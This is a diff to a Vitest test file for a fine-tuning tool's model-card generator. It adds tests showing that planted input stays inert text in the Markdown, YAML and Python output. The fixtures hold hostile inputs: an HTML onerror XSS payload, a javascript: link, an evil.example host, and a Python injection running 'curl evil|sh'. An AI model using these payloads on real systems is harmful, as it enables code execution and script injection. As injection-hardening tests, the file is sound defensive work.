@@ -1,7 +1,7 @@
 /** What a model card tells of a run follows the tables of settings and metrics. */
-import { expect, it } from 'vitest';
+import { describe, expect, it } from 'vitest';
 import { defaultSettings, withValues } from '../../protocol/setting-values.ts';
-import type { RunRecord, StepMetrics } from '../../protocol/training.ts';
+import type { AdherenceSample, RunRecord, StepMetrics } from '../../protocol/training.ts';
 import { modelCard } from './model-card.ts';
 
 const step = (n: number, loss: number): StepMetrics => ({
@@ -32,6 +32,7 @@ const run: RunRecord = {
   evals: [{ step: 2, eval_loss: 0.8 }],
   samples: [],
 };
+const sample = { step: 2, language: 'German', share: 0.5 } as AdherenceSample;
 const facts = { name: 'a', base_model: 'm', quant_method: null, lora: settings.lora, modules: ['q_proj'], parameters: 10 };
 
 it('lists the simple settings and those that differ from the defaults, by TRL’s names, and no others', () => {
@@ -44,7 +45,7 @@ it('lists the simple settings and those that differ from the defaults, by TRL’
     '| steps | 2 of 2 |',
   ])
     expect(card).toContain(row);
-  expect(card, 'cells keep to their line').toContain('| adherence_question | a \\| b c |');
+  expect(card, 'cells keep to their line').toContain('| adherence_question | `a \\| b c` |');
   for (const name of ['adam_beta1', 'max_grad_norm', 'languages', 'model_identity']) expect(card).not.toContain(`| ${name} |`);
 });
 
@@ -56,4 +57,49 @@ it('tells the results that were logged, first and last', () => {
   expect(card).not.toContain('entropy');
   expect(modelCard({ ...facts, run: { ...run, metrics: [], evals: [] } })).toContain('No step was finished.');
   expect(modelCard(facts)).not.toContain('## Training procedure');
+});
+
+describe('what a card takes from elsewhere', () => {
+  const evil = 'x`</code>\n## injected <img src=x onerror=alert(1)> | [a](javascript:b) ``` @all https://evil.example';
+  /** Markdown outside fenced code, without its code spans: none of the planted text may be left in it. */
+  const outside = (card: string): string =>
+    card
+      .split('\n\n## Use')
+      .join('\n')
+      .replaceAll(/^```python[\s\S]*?^```$/gm, '')
+      .replaceAll(/(?<!`)(`+)(?!`).*?(?<!`)\1(?!`)/g, 'CODE');
+
+  // An adapter's base_model_name_or_path and target_modules became a heading, HTML and a line of Python.
+  it('stays text: no heading, HTML, link, table cell or code comes of it', () => {
+    const lora = { ...settings.lora, target_modules: ['q_proj', evil], target_parameters: [evil] };
+    const samples = [{ ...sample, language: evil }];
+    const planted = { ...settings, adherence_question: evil, adherence_languages: [evil] };
+    const card = modelCard({ ...facts, name: evil, base_model: evil, lora, run: { ...run, dataset: evil, settings: planted, samples } });
+    const markdown = outside(card.slice(card.indexOf('\n---\n', 4) + 5));
+    for (const part of ['injected', '<', 'javascript', '@all', 'evil']) expect(markdown).not.toContain(part);
+    expect(markdown).toContain('q_proj, CODE and CODE');
+    expect(markdown.match(/^#+ .*/gm)).toEqual(['# CODE', '## Training procedure', '## Metrics', '## Versions']);
+    for (const row of card.split('\n').filter((line) => line.startsWith('| ')))
+      expect(row.match(/(?<!\\)\|/g), `${row} has two cells`).toHaveLength(3);
+  });
+
+  it('is one string in the YAML header and in the Python', () => {
+    const base_model = 'a/b")\nimport os; os.system("curl evil|sh") #\u2028\u202e\u{e0041}\ud800';
+    const card = modelCard({ ...facts, base_model });
+    const string = '"a/b\\")\\nimport os; os.system(\\"curl evil|sh\\") #\\u2028\\u202e\\U000e0041\ufffd"';
+    expect(card.split('\n')).toContain(`base_model: ${string}`);
+    expect(card.split('\n')).toContain(`base = AutoModelForCausalLM.from_pretrained(${string})`);
+  });
+
+  it('is left as it is where it is plain words', () => {
+    const card = modelCard({ ...facts, name: 'Yoruba run 3', run: { ...run, dataset: 'हिन्दी, data_v2' } });
+    expect(card).toContain('# Yoruba run 3\n');
+    expect(card).toContain('| dataset | हिन्दी, data_v2 |');
+    expect(modelCard({ ...facts, name: '1. a' })).toContain('# `1. a`\n');
+  });
+
+  it('keeps to its cell also behind a backslash', () => {
+    const card = modelCard({ ...facts, run: { ...run, dataset: 'a\\|b`' } });
+    expect(card).toContain('| dataset | `` a\\ \\|b` `` |');
+  });
 });
